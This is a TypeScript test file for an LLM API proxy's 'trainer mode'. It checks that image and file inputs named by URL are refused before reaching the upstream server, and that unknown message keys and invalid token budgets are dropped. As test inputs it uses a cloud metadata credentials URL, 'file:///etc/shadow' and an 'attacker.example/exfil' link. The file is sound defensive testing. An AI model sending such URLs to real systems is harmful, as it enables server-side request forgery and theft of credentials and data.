import Anthropic from '@anthropic-ai/sdk';
import { GoogleGenAI } from '@google/genai';
import OpenAI from 'openai';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lastCall } from '../support/capture.js';
import { startReferenceUpstream, type ReferenceUpstream } from '../support/reference-upstream/index.js';
import { startTestProxy, type TestProxy } from '../support/start-proxy.js';
import { samplingPolicy } from '../../src/upstream/sampling-policy.js';

/**
 * Trainer mode keeps the policy from steering the server through its messages or its budget
 * (issue 39, 6), measured the way an attacker holding its session key would: with the official SDKs,
 * through the real proxy, to the reference upstream, which logs every request it gets.
 * - media named by URL (an https URL the server would fetch from inside the cluster, a file: URL,
 *   a Gemini fileUri) is refused with a 400 in the harness's own API, and never reaches the server;
 *   the call's record keeps the refusal;
 * - message keys outside the role's schema (`prefix: true` on an assistant message: prefix
 *   continuation to Mistral- and DeepSeek-style servers) are dropped, and the record names them;
 * - an output budget no server can keep (-1, 0, over the window) is dropped, and the record names it.
 */

const WINDOW = 40_960;
let upstream: ReferenceUpstream;
let t: TestProxy;

beforeAll(async () => {
  upstream = await startReferenceUpstream();
  t = await startTestProxy(upstream.url, { contextWindow: WINDOW, sampling: samplingPolicy('trainer', 'vllm', 0.6, 0.95) });
});

afterAll(async () => {
  await t?.close();
  await upstream?.close();
});

const openai = (session: string) => new OpenAI({ baseURL: t.proxy.baseUrl(session), apiKey: 'x', maxRetries: 0 });
const anthropic = (session: string) => new Anthropic({ baseURL: `${t.proxy.url}/s/${session}`, apiKey: 'sk-ant-test-0123456789', maxRetries: 0 });
const gemini = (session: string) => new GoogleGenAI({ apiKey: 'AIzaSy-test-key-0123', httpOptions: { baseUrl: `${t.proxy.url}/s/${session}` } });

/** The SDK's error for a call polar refused, and what the server saw meanwhile (nothing). */
async function refused(call: () => Promise<unknown>): Promise<{ status: number; message: string }> {
  const before = upstream.requestCount();
  const err = await call().then(
    () => null,
    (e: unknown) => e as { status?: number; message: string },
  );
  expect(err, 'the call was answered').not.toBeNull();
  expect(upstream.requestCount(), 'a request reached the server').toBe(before);
  return { status: err!.status ?? 0, message: err!.message };
}

/** The session's last call as recorded: a refusal, with what the harness sent. */
function expectRefusalRecorded(session: string, url: string): void {
  const row = lastCall(t.store, session);
  expect(row).toMatchObject({ status: 'error', httpStatus: 400, errorCode: 'POLAR_BAD_REQUEST' });
  expect(row.error).toMatch(/polar forwards media only inline/);
  expect(row.originalRequest).toContain(url);
  expect(row.upstreamRequest).toBeNull();
}

describe('trainer mode: media named by URL is refused in each provider’s own error', () => {
  it('OpenAI Chat: image_url with an https or file URL', async () => {
    for (const url of ['http://169.254.169.254/latest/meta-data/iam/', 'file:///etc/shadow']) {
      const err = await refused(() =>
        openai('media-chat').chat.completions.create({
          model: 'm',
          messages: [
            {
              role: 'user',
              content: [
                { type: 'text', text: 'describe this' },
                { type: 'image_url', image_url: { url } },
              ],
            },
          ],
        }),
      );
      expect(err.status).toBe(400);
      expect(err.message).toMatch(/polar forwards media only inline/);
      expectRefusalRecorded('media-chat', url);
    }
  });

  it('OpenAI Responses: input_image with a URL', async () => {
    const url = 'https://attacker.example/exfil?d=secret';
    const err = await refused(() =>
      openai('media-responses').responses.create({
        model: 'm',
        input: [{ role: 'user', content: [{ type: 'input_image', image_url: url, detail: 'auto' }] }],
      }),
    );
    expect(err.status).toBe(400);
    expect(err.message).toMatch(/polar forwards media only inline/);
    expectRefusalRecorded('media-responses', url);
  });

  it('Anthropic Messages: an image whose source is a URL', async () => {
    const url = 'https://attacker.example/x.png';
    const err = await refused(() =>
      anthropic('media-anthropic').messages.create({
        model: 'claude-opus-4-8',
        max_tokens: 64,
        messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url } }] }],
      }),
    );
    expect(err.status).toBe(400);
    expect(err.message).toMatch(/invalid_request_error[\s\S]*polar forwards media only inline/);
    expectRefusalRecorded('media-anthropic', url);
  });

  it('Google generateContent: fileData.fileUri', async () => {
    const url = 'https://attacker.example/doc.pdf';
    const err = await refused(() =>
      gemini('media-gemini').models.generateContent({
        model: 'gemini-2.5-pro',
        contents: [{ role: 'user', parts: [{ text: 'read this' }, { fileData: { mimeType: 'application/pdf', fileUri: url } }] }],
      }),
    );
    expect(err.status).toBe(400);
    expect(err.message).toMatch(/polar forwards media only inline/);
    expectRefusalRecorded('media-gemini', url);
  });
});

describe('trainer mode: unknown message keys and impossible budgets are dropped and recorded', () => {
  it('OpenAI Chat: `prefix: true` and a system message’s `tools` never reach the server; max_tokens -1 is dropped', async () => {
    const messages = [
      { role: 'system', content: 'Be brief.', tools: [{ type: 'function', function: { name: 'x' } }] },
      { role: 'user', content: 'Say hello.' },
      { role: 'assistant', content: 'Sure: ', prefix: true },
      { role: 'user', content: 'Go on.' },
    ] as unknown as OpenAI.ChatCompletionMessageParam[];
    const res = await openai('keys-chat').chat.completions.create({ model: 'm', messages, max_tokens: -1 });
    expect(res.choices[0]!.message.content).toBeTruthy();
    const sent = upstream.calls.at(-1)!.request;
    expect(sent.messages).toEqual([
      { role: 'system', content: 'Be brief.' },
      { role: 'user', content: 'Say hello.' },
      { role: 'assistant', content: 'Sure: ' },
      { role: 'user', content: 'Go on.' },
    ]);
    expect(sent).not.toHaveProperty('max_tokens');
    expect(lastCall(t.store, 'keys-chat').sampling).toMatchObject({
      policy: 'trainer',
      max_tokens: null,
      dropped: expect.arrayContaining(['max_tokens', 'messages[].tools', 'messages[].prefix']),
    });
  });

  it('OpenAI Chat: max_completion_tokens over the context window is dropped and recorded', async () => {
    await openai('budget-chat').chat.completions.create({ model: 'm', messages: [{ role: 'user', content: 'hi' }], max_completion_tokens: 10 * WINDOW });
    const sent = upstream.calls.at(-1)!.request;
    expect(sent).not.toHaveProperty('max_tokens');
    expect(sent).not.toHaveProperty('max_completion_tokens');
    expect(lastCall(t.store, 'budget-chat').sampling).toMatchObject({ max_tokens: null, dropped: ['max_tokens'] });
  });

  it('Anthropic max_tokens 0, Responses max_output_tokens 1.5 and Gemini maxOutputTokens -1 are dropped and recorded', async () => {
    await anthropic('budget-anthropic').messages.create({ model: 'claude-opus-4-8', max_tokens: 0, messages: [{ role: 'user', content: 'hi' }] });
    expect(upstream.calls.at(-1)!.request).not.toHaveProperty('max_tokens');
    expect(lastCall(t.store, 'budget-anthropic').sampling).toMatchObject({ max_tokens: null, dropped: ['max_tokens'] });

    await openai('budget-responses').responses.create({ model: 'm', input: 'hi', max_output_tokens: 1.5 });
    expect(upstream.calls.at(-1)!.request).not.toHaveProperty('max_tokens');
    expect(lastCall(t.store, 'budget-responses').sampling).toMatchObject({ max_tokens: null, dropped: ['max_tokens'] });

    await gemini('budget-gemini').models.generateContent({ model: 'gemini-2.5-pro', contents: 'hi', config: { maxOutputTokens: -1 } });
    expect(upstream.calls.at(-1)!.request).not.toHaveProperty('max_tokens');
    expect(lastCall(t.store, 'budget-gemini').sampling).toMatchObject({ max_tokens: null, dropped: ['max_tokens'] });
  });

  it('a valid budget and schema keys go through untouched, with nothing dropped', async () => {
    await openai('clean-chat').chat.completions.create({
      model: 'm',
      messages: [
        { role: 'user', content: 'hi', name: 'dev' },
        { role: 'assistant', content: 'hello' },
        { role: 'user', content: 'again' },
      ],
      max_tokens: 64,
    });
    const sent = upstream.calls.at(-1)!.request;
    expect(sent.max_tokens).toBe(64);
    expect((sent.messages as unknown[])[0]).toEqual({ role: 'user', content: 'hi', name: 'dev' });
    expect(lastCall(t.store, 'clean-chat').sampling).toMatchObject({ max_tokens: 64, dropped: [] });
  });
});
